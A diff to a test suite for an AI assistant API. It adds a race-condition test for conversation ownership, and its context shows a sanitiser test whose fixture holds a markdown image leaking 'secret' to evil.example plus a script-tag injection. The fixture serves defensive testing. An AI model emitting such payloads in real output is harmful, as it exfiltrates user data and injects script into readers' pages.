@@ -176,6 +176,17 @@ describe.each(dialectTargets())('AI assistant on $name', (target) => {
     expect(fake.chatRequests().at(-1)!.body.messages.some((m: { role: string }) => m.role === 'tool')).toBe(true);
   });
 
+  it('keeps one conversation, one owner, when requests with a new id race', async () => {
+    fake.script(undefined);
+    const id = 'race-conversation-0001';
+    const [a, b, c] = await Promise.all([ask('zebra router firmware', id, reader), ask('lemur backups', id, reader), ask('zebra router firmware', id, other)]);
+    expect([a.statusCode, b.statusCode].sort()).toEqual([200, 200]);
+    expect(c.statusCode).toBe(404);
+    const detail = body(await call('GET', `${API}/ai/conversation?conversation_id=${id}`, reader)).data;
+    expect(detail.records).toHaveLength(4);
+    expect(await site.runtime.database.selectFrom('ai_conversation').select('user_id').where('conversation_id', '=', id).execute()).toEqual([{ user_id: expect.anything() }]);
+  });
+
   it('renders answers with the posts\' sanitiser, without images, citations linked outside code only', async () => {
     fake.script(() => ({ content: 'Flash it [1]. ![x](https://evil.example/?q=secret) <script>alert(1)</script> Run `reset [1]`.' }));
     const final = last(events((await ask('zebra router firmware')).body).chunks);
